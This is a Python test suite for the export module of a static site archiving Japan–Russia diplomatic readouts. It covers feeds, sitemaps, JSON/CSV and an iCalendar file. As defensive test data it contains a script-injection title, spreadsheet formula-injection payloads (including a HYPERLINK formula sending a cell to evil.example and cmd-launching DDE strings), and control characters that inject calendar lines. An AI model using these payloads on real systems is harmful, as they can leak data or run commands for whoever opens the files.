"""Exports: the feeds, sitemap, readouts.json and .csv and meetings.ics parse, hold the corpus,
survive any text, and come out byte for byte the same from two builds."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import posixpath
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any, get_args
from urllib.parse import unquote

import icalendar
import jsonschema
import pytest

from readouts.build import build_site
from readouts.link import link
from readouts.load import load_corpus
from readouts.model import KINDS, BlockKind, SiteGraph
from readouts.publishers import PUBLISHERS
from readouts.render import urls
from readouts.render.exports import Fragments, sitemap, write_exports
from readouts.render.exports.common import CSV_COLUMNS
from readouts.render.exports.feeds import _entered_newest_first, atom_feed
from readouts.render.exports.ics import meetings_calendar_file
from tests.conftest import copy_demo_site

REPO = Path(__file__).resolve().parents[2]
SCHEMA = json.loads((REPO / "docs" / "readouts.schema.json").read_text(encoding="utf-8"))
ATOM = "{http://www.w3.org/2005/Atom}"
SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
SEED_000 = "2019-09-25-mofa-japan-russia-foreign-ministers-meeting"
UNDATED_SEED = "undated-tass-moscow-tokyo-working-on-japanese-top-diplomats-visit-to"
HOSTILE = "<script>alert(\"x\")</script> & 'quoted' ]]> — Сергей Лавров"
BASE_URL = "https://example.org/readouts/"


@pytest.fixture(scope="module")
def demo_graph(built_demo: Path) -> SiteGraph:
    return link(load_corpus(built_demo))


def _xml(path: Path) -> ET.Element:
    return ET.fromstring(path.read_bytes())


def _href(entry: ET.Element) -> str:
    link_element = entry.find(f"{ATOM}link")
    assert link_element is not None
    return link_element.get("href", "")


def _entry_ids(feed: ET.Element) -> list[str]:
    return [e.findtext(f"{ATOM}id", "") for e in feed.iter(f"{ATOM}entry")]


def _validate(data: object, definition: str) -> None:
    """`data` against one definition of the schema, and against the schema as a whole."""
    jsonschema.validate(data, SCHEMA, cls=jsonschema.Draft202012Validator)
    jsonschema.validate(data, {"$defs": SCHEMA["$defs"], "$ref": f"#/$defs/{definition}"},
                        cls=jsonschema.Draft202012Validator)


def _records(site: Path) -> list[dict[str, Any]]:
    """Every readout's record, from the year files readouts.json lists, in their order; each file
    checked against the schema and its entry in the index."""
    index = json.loads((site / urls.READOUTS_JSON).read_text(encoding="utf-8"))
    _validate(index, "index")
    records: list[dict[str, Any]] = []
    for entry in index["files"]:
        year_file = json.loads((site / entry["path"]).read_text(encoding="utf-8"))
        _validate(year_file, "year_file")
        assert entry["path"] == urls.readouts_year_path(entry["year"])
        assert year_file["year"] == entry["year"] and len(year_file["readouts"]) == entry["count"]
        for record in year_file["readouts"]:
            day = record["meeting"]["date"] or record["published"]
            assert (int(day[:4]) if day else None) == entry["year"], record["id"]
        records += year_file["readouts"]
    assert len(records) == index["count"]
    assert sorted(index["files"], key=lambda e: (e["year"] is None, e["year"] or 0)) == index["files"]
    return records


def _sitemap(site: Path) -> dict[str, list[str]]:
    """Each part sitemap.xml lists → the pages the part lists, as paths in the site (a site
    without base_url: the addresses are relative to the file that holds them)."""
    index = _xml(site / urls.SITEMAP)
    assert index.tag == f"{SITEMAP}sitemapindex"
    assert not list(index.iter(f"{SITEMAP}lastmod"))
    parts: dict[str, list[str]] = {}
    for loc in index.iter(f"{SITEMAP}loc"):
        part = loc.text or ""
        # The protocol: a sitemap lists only addresses under its own folder.
        assert "/" not in part and part.startswith("sitemap-") and part not in parts
        urlset = _xml(site / part)
        assert urlset.tag == f"{SITEMAP}urlset"
        parts[part] = [posixpath.normpath(unquote(page.text or "")) for page in urlset.iter(f"{SITEMAP}loc")]
        assert not any(page.startswith("../") for page in parts[part])
    return parts


def _readout(readout_id: str, title: str, day: str | None, body: str = "A paragraph about the peace treaty.\n") -> str:
    dates = f"published: {day}\nmeeting:\n  date: {day}\n  place: Tokyo\n" if day else "meeting:\n  place: Tokyo\n"
    # A JSON string is a YAML double-quoted scalar: any title survives the front matter.
    return (f"---\nid: {readout_id}\ntitle: {json.dumps(title, ensure_ascii=False)}\npublisher: tass\nkind: news\n"
            f"{dates}participants: [sergey-lavrov, taro-kono]\ntopics: [peace-treaty]\n---\n\n{body}")


def _small_site(root: Path, base_url: str | None) -> SiteGraph:
    """Three readouts, one hostile and one undated, built into a graph without rendering pages."""
    root.mkdir()
    (root / "site.yaml").write_text(f"title: Тест & <site>\nbase_url: {base_url}\n" if base_url else "title: Test\n",
                                    encoding="utf-8")
    readouts = root / "content" / "readouts"
    readouts.mkdir(parents=True)
    for name in ("topics.yaml", "people.yaml", "glossary.yaml"):
        shutil.copy(REPO / "content" / name, root / "content" / name)
    (readouts / "hostile.md").write_text(_readout("hostile", HOSTILE, "2020-01-02", body=(
        "First \\<b\\> \\& \\*stars\\* about the peace treaty, Сергей Лавров.\n\nSecond paragraph.\n")),
        encoding="utf-8")
    (readouts / "older.md").write_text(_readout("older", "Older", "2019-05-31"), encoding="utf-8")
    (readouts / "undated.md").write_text(_readout("undated", "Undated", None), encoding="utf-8")
    return link(load_corpus(root))


def _pages(out: Path) -> list[str]:
    pages = ["index.html", "404.html", "readouts/hostile.html", "meetings/index.html"]
    for page in pages:
        (out / page).parent.mkdir(parents=True, exist_ok=True)
        (out / page).write_text("<!doctype html>", encoding="utf-8")
    return pages


# ------------------------------------------------------------------ feeds


def _entered(graph: SiteGraph, readout_id: str) -> str:
    record = graph.readouts[readout_id].imported
    assert record is not None and record.entered is not None
    return record.entered.strftime("%Y-%m-%dT%H:%M:%SZ")


def test_the_feed_lists_every_readout_by_when_it_entered_the_archive(built_demo: Path, demo_graph: SiteGraph) -> None:
    site = built_demo / "site"
    feed = _xml(site / urls.FEED)
    # the demo's five entered together: the dated ones newest first, then the undated one
    dated = [r for r in demo_graph.chronology if demo_graph.readouts[r].date]
    expected = [*reversed(dated), UNDATED_SEED]
    assert _entry_ids(feed) == [f"urn:readouts:japan-russia-readouts:{r}" for r in expected]
    entered = _entered(demo_graph, SEED_000)
    assert {_entered(demo_graph, r) for r in expected} == {entered}
    assert feed.findtext(f"{ATOM}updated") == entered
    first = next(feed.iter(f"{ATOM}entry"))
    assert first.findtext(f"{ATOM}title") == "Japan-Russia Foreign Ministers’ Meeting"
    assert first.findtext(f"{ATOM}published") == first.findtext(f"{ATOM}updated") == entered
    assert first.findtext(f"{ATOM}author/{ATOM}name") == "Ministry of Foreign Affairs of Japan"
    assert (first.findtext(f"{ATOM}summary") or "").startswith("On September 25 (local time), Mr. Toshimitsu Motegi")
    assert [c.get("term") for c in first.iter(f"{ATOM}category")] == list(demo_graph.readouts[SEED_000].topics)
    for link_element in feed.iter(f"{ATOM}link"):
        assert (site / (link_element.get("href") or "")).is_file()


def test_a_readout_that_entered_later_comes_first_whatever_its_date(demo_graph: SiteGraph) -> None:
    record = demo_graph.readouts[UNDATED_SEED].imported
    assert record is not None and record.entered is not None
    later = dataclasses.replace(record, entered=record.entered + dt.timedelta(hours=1))
    readout = dataclasses.replace(demo_graph.readouts[UNDATED_SEED], imported=later)
    graph = dataclasses.replace(demo_graph, readouts={**demo_graph.readouts, UNDATED_SEED: readout})
    feed = ET.fromstring(atom_feed(graph, urls.FEED, _entered_newest_first(graph, graph.chronology)))
    assert _entry_ids(feed)[0] == f"urn:readouts:japan-russia-readouts:{UNDATED_SEED}"
    assert feed.findtext(f"{ATOM}updated") == _entered(graph, UNDATED_SEED)


@pytest.mark.parametrize("topic_id", ["peace-treaty", "joint-economic-activities", "humanitarian-measures"])
def test_each_main_topic_has_a_feed_of_its_readouts(built_demo: Path, demo_graph: SiteGraph, topic_id: str) -> None:
    path = built_demo / "site" / urls.TOPIC_FEED.format(topic_id=topic_id)
    feed = _xml(path)
    # entered together: newest date first, the undated last
    dated = [r for r in demo_graph.chronology if demo_graph.readouts[r].date]
    expected = [r for r in [*reversed(dated), UNDATED_SEED] if r in demo_graph.readouts_by_topic[topic_id]]
    assert expected
    assert _entry_ids(feed) == [f"urn:readouts:japan-russia-readouts:{r}" for r in expected]
    for entry in feed.iter(f"{ATOM}entry"):
        assert _href(entry).startswith("../readouts/")
        assert (path.parent / _href(entry)).is_file()


def test_hostile_text_is_escaped_and_every_file_still_parses(tmp_path: Path) -> None:
    graph = _small_site(tmp_path / "src", base_url=None)
    out = tmp_path / "out"
    pages = _pages(out)
    # Four feeds, the sitemap's index and two parts (the site's, 2020's), readouts.json and the
    # files of 2019, 2020 and the undated, the CSV and the calendar.
    assert write_exports(graph, out, pages) == 13

    raw = (out / urls.FEED).read_bytes()
    assert b"<script>" not in raw and b"]]>" not in raw
    entries = list(_xml(out / urls.FEED).iter(f"{ATOM}entry"))
    # written by hand, with no record to date their entry: by the published day, and the one
    # without any date left out
    assert [e.findtext(f"{ATOM}title") for e in entries] == [HOSTILE, "Older"]
    assert entries[0].findtext(f"{ATOM}summary") == "First <b> & *stars* about the peace treaty, Сергей Лавров."

    assert [r["title"] for r in _records(out)] == ["Older", HOSTILE, "Undated"]
    rows = list(csv.DictReader(io.StringIO((out / urls.READOUTS_CSV).read_text(encoding="utf-8"))))
    assert rows[1]["title"] == HOSTILE
    calendar = icalendar.Calendar.from_ical((out / urls.MEETINGS_ICS).read_bytes())
    assert any(HOSTILE in str(event.get("description")) for event in calendar.walk("VEVENT"))


def test_characters_xml_cannot_hold_are_dropped_not_written(tmp_path: Path) -> None:
    graph = _small_site(tmp_path / "src", base_url=None)
    readout = dataclasses.replace(graph.readouts["hostile"], title="Bell\x07 and \x00null <ok>")
    graph = dataclasses.replace(graph, readouts={**graph.readouts, "hostile": readout})
    out = tmp_path / "out"
    pages = _pages(out)
    write_exports(graph, out, pages)
    titles = [e.findtext(f"{ATOM}title") for e in _xml(out / urls.FEED).iter(f"{ATOM}entry")]
    assert titles[0] == "Bell and null <ok>"


def test_a_topic_without_readouts_gets_an_empty_feed_with_a_fixed_date(tmp_path: Path) -> None:
    graph = _small_site(tmp_path / "src", base_url=None)
    out = tmp_path / "out"
    pages = _pages(out)
    write_exports(graph, out, pages)
    feed = _xml(out / urls.TOPIC_FEED.format(topic_id="humanitarian-measures"))
    assert _entry_ids(feed) == []
    assert feed.findtext(f"{ATOM}updated") == "2020-01-02T00:00:00Z"


def test_base_url_makes_every_link_and_id_absolute(tmp_path: Path) -> None:
    graph = _small_site(tmp_path / "src", base_url=BASE_URL)
    out = tmp_path / "out"
    pages = _pages(out)
    write_exports(graph, out, pages)

    feed = _xml(out / urls.TOPIC_FEED.format(topic_id="peace-treaty"))
    assert feed.findtext(f"{ATOM}id") == f"{BASE_URL}topics/peace-treaty.xml"
    assert feed.findtext(f"{ATOM}title") == "Тест & <site>: Peace treaty"
    entry = next(feed.iter(f"{ATOM}entry"))
    assert entry.findtext(f"{ATOM}id") == f"{BASE_URL}readouts/hostile.html"
    assert _href(entry) == f"{BASE_URL}readouts/hostile.html"

    assert "<!--" not in (out / urls.SITEMAP).read_text(encoding="utf-8")
    parts = [loc.text for loc in _xml(out / urls.SITEMAP).iter(f"{SITEMAP}loc")]
    assert parts == [f"{BASE_URL}sitemap-site.xml", f"{BASE_URL}sitemap-2020.xml"]
    assert "<!--" not in (out / "sitemap-site.xml").read_text(encoding="utf-8")
    assert [loc.text for loc in _xml(out / "sitemap-site.xml").iter(f"{SITEMAP}loc")] == [
        f"{BASE_URL}index.html", f"{BASE_URL}meetings/index.html"]
    assert [loc.text for loc in _xml(out / "sitemap-2020.xml").iter(f"{SITEMAP}loc")] == [
        f"{BASE_URL}readouts/hostile.html"]

    calendar = icalendar.Calendar.from_ical((out / urls.MEETINGS_ICS).read_bytes())
    assert {str(e.get("url")) for e in calendar.walk("VEVENT")} == {
        f"{BASE_URL}{urls.meeting_path(m)}" for m in graph.meetings}
    assert json.loads((out / urls.READOUTS_JSON).read_text(encoding="utf-8"))["site"]["base_url"] == BASE_URL


# ------------------------------------------------------------------ sitemap


def test_sitemap_index_lists_parts_that_together_list_every_page_but_404(built_demo: Path) -> None:
    site = built_demo / "site"
    assert "base_url" in (site / urls.SITEMAP).read_text(encoding="utf-8")  # relative paths do not make a valid sitemap
    parts = _sitemap(site)
    assert list(parts) == ["sitemap-site.xml", "sitemap-2012.xml", "sitemap-2017.xml", "sitemap-2019.xml",
                           "sitemap-undated.xml"]
    assert sorted(p.name for p in site.glob("sitemap-*.xml")) == sorted(parts)
    listed = [page for pages in parts.values() for page in pages]
    pages = sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html"))
    assert sorted(listed) == [p for p in pages if p != urls.NOT_FOUND]  # each page once, and every one resolves
    for pages_of_part in parts.values():
        assert pages_of_part == sorted(pages_of_part)
    year_2019 = set(parts["sitemap-2019.xml"])
    assert {urls.readout_path(SEED_000), urls.timeline_year_path(2019), urls.meetings_year_path(2019),
            urls.topic_year_path("peace-treaty", 2019), urls.meeting_path("2019-09-25-lavrov-motegi")} <= year_2019
    assert all(page.startswith(("readouts/", "timeline/", "meetings/", "topics/", "people/")) for page in year_2019)
    assert set(parts["sitemap-undated.xml"]) >= {urls.readout_path(UNDATED_SEED),
                                                 urls.person_year_path("shinzo-abe", None)}
    assert {urls.INDEX, urls.TIMELINE, urls.topic_path("peace-treaty")} <= set(parts["sitemap-site.xml"])


def test_a_part_too_long_for_the_protocol_is_split(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    graph = _small_site(tmp_path / "src", base_url=None)
    out = tmp_path / "out"
    pages = _pages(out)
    pages += ["glossary.html", "search.html", "timeline.html"]
    for page in pages:
        (out / page).write_text("<!doctype html>", encoding="utf-8")
    monkeypatch.setattr(sitemap, "SITEMAP_MAX_URLS", 2)
    write_exports(graph, out, pages)
    parts = _sitemap(out)
    assert {part: len(listed) for part, listed in parts.items()} == {
        "sitemap-site.xml": 2, "sitemap-site-2.xml": 2, "sitemap-site-3.xml": 1, "sitemap-2020.xml": 1}
    assert sorted(p for listed in parts.values() for p in listed) == sorted(p for p in pages if p != urls.NOT_FOUND)

    monkeypatch.setattr(sitemap, "SITEMAP_MAX_URLS", 50_000)
    monkeypatch.setattr(sitemap, "SITEMAP_MAX_BYTES", 500)
    for part in parts:
        (out / part).unlink()
    write_exports(graph, out, pages)
    parts = _sitemap(out)
    assert len(parts) > 2
    assert all((out / part).stat().st_size <= 500 for part in parts)
    assert sorted(p for listed in parts.values() for p in listed) == sorted(p for p in pages if p != urls.NOT_FOUND)


# ------------------------------------------------------------------ JSON and CSV


def test_readouts_json_lists_year_files_that_hold_every_readout_once(built_demo: Path, demo_graph: SiteGraph) -> None:
    site = built_demo / "site"
    index = json.loads((site / urls.READOUTS_JSON).read_text(encoding="utf-8"))
    assert index["site"] == {"title": "Japan–Russia Readouts", "description": index["site"]["description"],
                             "language": "en", "base_url": None}
    assert [(f["path"], f["year"], f["count"]) for f in index["files"]] == [
        ("data/readouts-2012.json", 2012, 1), ("data/readouts-2017.json", 2017, 1),
        ("data/readouts-2019.json", 2019, 2), ("data/readouts-undated.json", None, 1)]
    assert sorted(p.relative_to(site).as_posix() for p in (site / "data").iterdir()) == [
        f["path"] for f in index["files"]]
    # Read one after the other, the year files are the whole corpus in chronological order.
    assert [r["id"] for r in _records(site)] == list(demo_graph.chronology)


def test_readouts_records_follow_the_schema_and_anchors_exist(built_demo: Path, demo_graph: SiteGraph) -> None:
    site = built_demo / "site"
    seed = next(r for r in _records(site) if r["id"] == SEED_000)
    assert seed["meeting_id"] == demo_graph.meeting_of[SEED_000]
    assert (site / urls.meeting_path(seed["meeting_id"])).is_file()
    assert seed["meeting"] == {"date": "2019-09-25", "place": "New York", "format": "in-person",
                               "occasion": "United Nations General Assembly", "duration_minutes": 45}
    page = (site / seed["url"]).read_text(encoding="utf-8")
    assert seed["paragraphs"]
    for paragraph in seed["paragraphs"]:
        assert f'id="{paragraph["anchor"]}"' in page
    assert any("humanitarian-measures" in p["topics"] for p in seed["paragraphs"])
    # The ¶ number a record gives is the one the page shows beside the same anchor.
    shown = dict(re.findall(r'href="#(p-[0-9a-f]+)" aria-label="Link to paragraph \d+"[^>]*>¶(\d+)<', page))
    assert {p["anchor"]: str(p["number"]) for p in seed["paragraphs"] if p["number"]} == shown
    assert all(p["number"] is None for p in seed["paragraphs"] if p["kind"] == "heading")
    assert (site / seed["source"]["file"]).is_file()


def test_schema_names_the_same_values_as_the_model() -> None:
    readout = SCHEMA["$defs"]["readout"]["properties"]
    assert readout["publisher"]["enum"] == list(PUBLISHERS)
    assert readout["kind"]["enum"] == list(KINDS)
    assert SCHEMA["$defs"]["paragraph"]["properties"]["kind"]["enum"] == list(get_args(BlockKind))


def test_readouts_csv_has_a_header_and_a_row_per_readout(built_demo: Path, demo_graph: SiteGraph) -> None:
    text = (built_demo / "site" / urls.READOUTS_CSV).read_text(encoding="utf-8")
    reader = csv.reader(io.StringIO(text))
    assert tuple(next(reader)) == CSV_COLUMNS
    rows = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in reader]
    assert len(rows) == 5
    assert [r["id"] for r in rows] == list(demo_graph.chronology)
    seed = next(r for r in rows if r["id"] == SEED_000)
    assert seed["participants"].split(";") == list(demo_graph.readouts[SEED_000].participants)
    assert seed["duration_minutes"] == "45"
    undated = next(r for r in rows if r["id"] == UNDATED_SEED)
    assert undated["published"] == "" and undated["meeting_date"] == ""


# ------------------------------------------------------------------ iCalendar


def _ics_lines(calendar: bytes) -> list[bytes]:
    """RFC 5545's content lines, unfolded, after checking the folding itself: CRLF endings, no
    line over 75 octets, a continuation starting with a space."""
    assert calendar.endswith(b"\r\n") and b"\n" not in calendar.replace(b"\r\n", b""), "bare line breaks"
    physical = calendar.split(b"\r\n")[:-1]
    assert all(len(line) <= 75 for line in physical), [line for line in physical if len(line) > 75]
    return calendar.replace(b"\r\n ", b"").split(b"\r\n")[:-1]


def test_meetings_ics_has_an_all_day_event_per_dated_meeting(built_demo: Path, demo_graph: SiteGraph) -> None:
    site = built_demo / "site"
    raw = (site / urls.MEETINGS_ICS).read_bytes()
    lines = _ics_lines(raw)
    assert lines[0] == b"BEGIN:VCALENDAR" and lines[-1] == b"END:VCALENDAR"
    names = [line.split(b":")[0].split(b";")[0] for line in lines]
    assert names.count(b"BEGIN") == names.count(b"END") and names.count(b"VERSION") == 1
    calendar = icalendar.Calendar.from_ical(raw)
    assert str(calendar.get("prodid")) == "-//readouts//readouts//EN" and str(calendar.get("version")) == "2.0"
    events = list(calendar.walk("VEVENT"))
    dated = {m.id: m for m in demo_graph.meetings.values() if m.date}
    assert dated
    assert sorted(str(e.get("uid")) for e in events) == sorted(f"{m}@readouts" for m in dated)
    for event in events:
        for required in ("uid", "dtstamp", "dtstart", "dtend", "summary"):
            assert event.get(required) is not None, (required, event)
        meeting = dated[str(event.get("uid")).removesuffix("@readouts")]
        start = event.decoded("dtstart")
        assert not isinstance(start, dt.datetime) and start == meeting.date
        for readout_id in meeting.readout_ids:
            assert demo_graph.readouts[readout_id].title in str(event.get("description"))
    motegi = next(e for e in events if "motegi" in str(e.get("uid")))
    assert str(motegi.get("summary")) == "Motegi – Lavrov: meeting"
    assert str(motegi.get("location")) == "New York"


def test_a_calendar_event_is_stamped_when_its_newest_account_entered_the_archive(
    built_demo: Path, demo_graph: SiteGraph
) -> None:
    calendar = icalendar.Calendar.from_ical((built_demo / "site" / urls.MEETINGS_ICS).read_bytes())
    for event in calendar.walk("VEVENT"):
        meeting = demo_graph.meetings[str(event.get("uid")).removesuffix("@readouts")]
        entered = [demo_graph.readouts[r].imported.entered for r in meeting.readout_ids]  # type: ignore[union-attr]
        stamp = event.decoded("dtstamp")
        assert stamp == max(e for e in entered if e), (meeting.id, stamp, entered)
        assert stamp.tzinfo is not None and stamp.utcoffset() == dt.timedelta(0)


def test_a_calendar_without_base_url_has_no_address_to_follow_and_one_with_it_has_full_ones(tmp_path: Path) -> None:
    for base_url in (None, BASE_URL):
        graph = _small_site(tmp_path / str(bool(base_url)), base_url)
        events = icalendar.Calendar.from_ical(meetings_calendar_file(graph, Fragments(None)).make())
        urls_found = [e.get("url") for e in events.walk("VEVENT")]
        assert urls_found
        if base_url:
            assert {str(u) for u in urls_found} == {f"{BASE_URL}{urls.meeting_path(m)}" for m in graph.meetings
                                                   if graph.meetings[m].date}
        else:
            assert urls_found == [None] * len(urls_found), urls_found


def test_a_telephone_talk_is_named_by_who_talked_and_how(tmp_path: Path) -> None:
    root = tmp_path / "site"
    _small_site(root, None)
    call = _readout("call", "Telephone talk", "2021-02-03").replace("  place: Tokyo\n", "  format: telephone\n")
    (root / "content" / "readouts" / "call.md").write_text(call, encoding="utf-8")
    graph = link(load_corpus(root))
    calendar = icalendar.Calendar.from_ical(meetings_calendar_file(graph, Fragments(None)).make())
    summaries = {str(e.get("dtstart").dt): str(e.get("summary")) for e in calendar.walk("VEVENT")}
    assert summaries["2021-02-03"] == "Lavrov – Kono: telephone talk", summaries


def test_a_calendar_makes_again_only_the_events_whose_meeting_accounts_or_names_changed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each event is kept by what it follows from, so a new readout's calendar works out one
    event's summary and accounts, not every meeting's; a renamed person's events are made again."""
    from readouts.render.exports import ics

    root = tmp_path / "site"
    _small_site(root, BASE_URL)
    store: dict[str, bytes] = {}
    meetings_calendar_file(link(load_corpus(root)), Fragments(store)).make()
    summaries: list[str] = []
    real_summary = ics._calendar_summary
    monkeypatch.setattr(ics, "_calendar_summary", lambda graph, meeting: (summaries.append(meeting.id),
                                                                          real_summary(graph, meeting))[1])
    (root / "content" / "readouts" / "newer.md").write_text(_readout("newer", "Newer", "2021-03-04"), encoding="utf-8")
    graph = link(load_corpus(root))
    kept = meetings_calendar_file(graph, Fragments(store)).make()
    assert summaries == [graph.meeting_of["newer"]]
    assert kept == meetings_calendar_file(graph, Fragments(None)).make()
    people = root / "content" / "people.yaml"
    people.write_text(people.read_text(encoding="utf-8").replace("name: Sergey Lavrov", "name: Sergei Lavrov"),
                      encoding="utf-8")
    graph = link(load_corpus(root))
    summaries.clear()
    renamed = meetings_calendar_file(graph, Fragments(store)).make()
    assert len(summaries) == 3 and renamed == meetings_calendar_file(graph, Fragments(None)).make()


def test_two_imports_at_the_same_source_date_epoch_write_the_same_calendar(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1764000000")
    calendars = []
    for name in ("first", "second"):
        (tmp_path / name).mkdir()
        root = copy_demo_site(tmp_path / name, with_readouts=False)
        build_site(root)
        calendars.append((root / "site" / urls.MEETINGS_ICS).read_bytes())
    assert calendars[0] == calendars[1]
    assert calendars[0].count(b"DTSTAMP:20251124T160000Z") == calendars[0].count(b"BEGIN:VEVENT") > 0


# ------------------------------------------------------------------ determinism


def test_two_builds_write_the_same_bytes(built_demo: Path, tmp_path: Path) -> None:
    root = tmp_path / "copy"
    shutil.copytree(built_demo, root)
    files = [urls.FEED, urls.SITEMAP, urls.READOUTS_JSON, urls.READOUTS_CSV, urls.MEETINGS_ICS,
             *(urls.TOPIC_FEED.format(topic_id=t) for t in ("peace-treaty", "humanitarian-measures")),
             *(p.relative_to(built_demo / "site").as_posix() for pattern in ("data/*", "sitemap-*")
               for p in sorted((built_demo / "site").glob(pattern)))]
    build_site(root)
    first = {path: (root / "site" / path).read_bytes() for path in files}
    build_site(root)
    second = {path: (root / "site" / path).read_bytes() for path in files}
    assert first == second
    assert first == {path: (built_demo / "site" / path).read_bytes() for path in files}


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(value: str) -> None:
    from readouts.render.exports.data import _csv_line

    cells = next(csv.reader(io.StringIO(_csv_line(["id", value, 5]).decode("utf-8"), newline="")))
    assert cells == ["id", "'" + value, "5"]


def test_a_title_and_an_occasion_like_formulas_reach_readouts_csv_as_text(built_demo: Path, tmp_path: Path) -> None:
    from readouts.build import build_site

    root = tmp_path / "site"
    shutil.copytree(built_demo, root, symlinks=True)
    path = root / "content" / "readouts" / "2019-09-25-mofa-japan-russia-foreign-ministers-meeting.md"
    text = path.read_text(encoding="utf-8")
    text = text.replace("title: Japan-Russia Foreign Ministers’ Meeting", "title: '=1+2'", 1)
    text = text.replace("occasion: United Nations General Assembly", "occasion: '@SUM(A1:A9)'", 1)
    path.write_text(text, encoding="utf-8")
    build_site(root)
    rows = list(csv.DictReader(io.StringIO((root / "site" / "readouts.csv").read_text(encoding="utf-8"), newline="")))
    row = next(r for r in rows if r["id"] == path.stem)
    assert (row["title"], row["occasion"]) == ("'=1+2", "'@SUM(A1:A9)")


def test_control_characters_in_front_matter_never_reach_the_calendar(built_demo: Path, tmp_path: Path) -> None:
    from readouts.build import build_site

    root = tmp_path / "site"
    shutil.copytree(built_demo, root, symlinks=True)
    path = root / "content" / "readouts" / "2019-09-25-mofa-japan-russia-foreign-ministers-meeting.md"
    text = path.read_text(encoding="utf-8")
    text = text.replace("title: Japan-Russia Foreign Ministers’ Meeting",
                        'title: "Talks\\e[31m red\\rBEGIN:VEVENT\\0"', 1)
    text = text.replace("occasion: United Nations General Assembly", 'occasion: "UNGA\\x01\\x7f"', 1)
    text = text.replace("place: New York", 'place: "New\\rYork\\x08"', 1)
    path.write_text(text, encoding="utf-8")
    build_site(root)
    calendar = (root / "site" / "meetings.ics").read_bytes()
    assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", calendar.replace(b"\r\n", b"")), "a control character"
    assert b"Talks[31m red" in calendar.replace(b"\r\n ", b"")
    lines = calendar.split(b"\r\n")
    assert lines.count(b"BEGIN:VEVENT") == lines.count(b"END:VEVENT") == calendar.count(b"\r\nUID:")


def test_a_control_character_in_the_site_title_never_reaches_the_calendar(demo_site: Path) -> None:
    """The calendar's name is the site's title: a carriage return in it would end the line."""
    from readouts.build import build_site

    config = demo_site / "site.yaml"
    text = config.read_text(encoding="utf-8")
    # YAML's double quotes read \r and \x1b as the characters themselves
    config.write_text(re.sub(r"(?m)^title: .*$", lambda _: 'title: "Japan\\rRussia\\x1b Readouts"', text),
                      encoding="utf-8")
    build_site(demo_site)
    calendar = (demo_site / "site" / urls.MEETINGS_ICS).read_bytes()
    name = next(line for line in calendar.split(b"\r\n") if line.startswith(b"X-WR-CALNAME"))
    assert b"\r" not in name and b"\x1b" not in name and b"Readouts" in name


@pytest.mark.parametrize("text", [
    "Lavrov – Kono: talks", "a,b;c\\d \\N e\nf\r\ng\rh", "é" * 80, "x" * 73 + "\\," + "y" * 10,
    "x" * 72 + "é\\;" + "ü" * 40, "日本" * 40 + "^" * 5 + "x" * 3, "\\" * 200, "",
])
def test_an_event_is_written_byte_for_byte_as_icalendar_writes_it(text: str) -> None:
    """The calendar's events are written without importing icalendar (ical_lines.py), as icalendar
    would write them: its escaping, its folding and its order of properties."""
    from readouts.model import Meeting
    from readouts.render.exports import ics

    meeting = Meeting(id="2021-02-03-kono-lavrov", date=dt.date(2021, 2, 3), place=text or None,
                      participants=("kono", "lavrov"), readout_ids=("a",))
    stamp = dt.datetime(2021, 2, 4, 5, 6, 7, tzinfo=dt.timezone.utc)
    for url in (None, f"{BASE_URL}meetings/2021-02-03-kono-lavrov.html"):
        args = (meeting, text + " – summary", [text, f"{text} ({text})"], url, stamp)
        assert ics._event(*args) == ics._event_by_icalendar(*args)


def test_a_calendar_whose_title_is_kept_writes_a_new_event_without_icalendar(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The calendar's head is kept by its title and events are written by ical_lines.py, so a new
    readout's calendar does not import icalendar (0.03–0.05 s of a build at 10,000)."""
    import sys

    root = tmp_path / "site"
    _small_site(root, BASE_URL)
    store: dict[str, bytes] = {}
    meetings_calendar_file(link(load_corpus(root)), Fragments(store)).make()
    (root / "content" / "readouts" / "newer.md").write_text(_readout("newer", "Newer", "2021-03-04"), encoding="utf-8")
    graph = link(load_corpus(root))
    clean = meetings_calendar_file(graph, Fragments(None)).make()
    monkeypatch.setitem(sys.modules, "icalendar", None)  # importing it now fails
    assert meetings_calendar_file(graph, Fragments(store)).make() == clean
